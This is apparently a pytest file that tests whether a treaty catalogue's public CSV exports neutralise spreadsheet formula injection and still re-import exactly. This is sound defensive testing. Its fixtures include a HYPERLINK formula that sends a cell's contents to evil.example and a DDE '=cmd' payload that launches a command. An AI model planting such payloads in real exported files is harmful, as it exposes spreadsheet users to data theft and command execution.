"""Public CSV downloads are safe to open in a spreadsheet, and the treaty CSV still imports back exactly."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from catalogue.importing.csvformat import FORMULA_STARTS, guard_cell, unguard_cell
from catalogue.importing.readers import read_path
from catalogue.models import Citation, OldSlug, Protocol, Treaty
from catalogue.services import import_records
from tests.factories import (
    ParticipationFactory,
    ProtocolFactory,
    SourceFactory,
    StateFactory,
    TreatyFactory,
)

DANGEROUS = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "short_title": "-1926 treaty",
    "summary": "+49 treaties\nand more",
    "duration": "@SUM(1+1)",
}


def body(response) -> str:
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def hostile(db):
    treaty = TreatyFactory(slug="hostile", **DANGEROUS)
    ParticipationFactory(treaty=treaty, state=StateFactory(code="EVL", name="=cmd|' /C calc'!A0"))
    ProtocolFactory(treaty=treaty, slug="hostile-protocol", title="+protocol", summary="'quoted already")
    SourceFactory(key="hostile-source", title="@import", authors="-Doe, Jane")
    return treaty


@settings(deadline=None)  # a shared, loaded machine: the property, not the time
@given(st.text())
def test_guard_is_undone_exactly_and_never_leaves_a_formula_start(value):
    guarded = guard_cell(value)
    assert unguard_cell(guarded) == value
    assert not guarded.startswith(FORMULA_STARTS)


def test_a_hand_written_leading_quote_before_an_ordinary_character_is_kept():
    assert unguard_cell("'tis a treaty") == "'tis a treaty"
    assert unguard_cell("'=1+1") == "=1+1"  # what a spreadsheet shows for '=1+1


def test_every_cell_of_the_public_treaty_csv_is_neutralised(client, hostile):
    (row,) = rows(body(client.get("/treaties.csv")))
    assert row["title"] == "'" + DANGEROUS["title"]
    assert row["short_title"] == "'-1926 treaty"
    assert row["summary"] == "'+49 treaties\nand more"
    assert row["duration"] == "'@SUM(1+1)"
    for value in row.values():
        assert not value.startswith(FORMULA_STARTS)


@pytest.mark.parametrize(
    ("url", "column", "expected"),
    [
        ("/protocols.csv", "title", "'+protocol"),
        ("/protocols.csv", "summary", "''quoted already"),
        ("/parties.csv", "name", "'=cmd|' /C calc'!A0"),
        ("/sources.csv", "title", "'@import"),
        ("/sources.csv", "authors", "'-Doe, Jane"),
    ],
)
def test_the_other_public_csv_downloads_are_neutralised(client, hostile, url, column, expected):
    values = [row[column] for row in rows(body(client.get(url))) if row[column]]
    assert expected in values
    assert not any(value.startswith(FORMULA_STARTS) for value in values)


def test_the_neutralised_treaty_csv_imports_back_to_exactly_the_same_values(client, hostile, tmp_path):
    path = tmp_path / "treaties.csv"
    path.write_text(body(client.get("/treaties.csv")), encoding="utf-8")
    before = {name: getattr(hostile, name) for name in DANGEROUS}
    Citation.objects.all().delete()
    Protocol.objects.all().delete()
    Treaty.objects.all().delete()
    OldSlug.objects.all().delete()
    report = import_records(read_path(path), origin=path.name)
    assert report.created == 1
    treaty = Treaty.objects.get(slug="hostile")
    assert {name: getattr(treaty, name) for name in DANGEROUS} == before
    assert treaty.protocols.get().title == "+protocol"
    assert treaty.protocols.get().summary == "'quoted already"
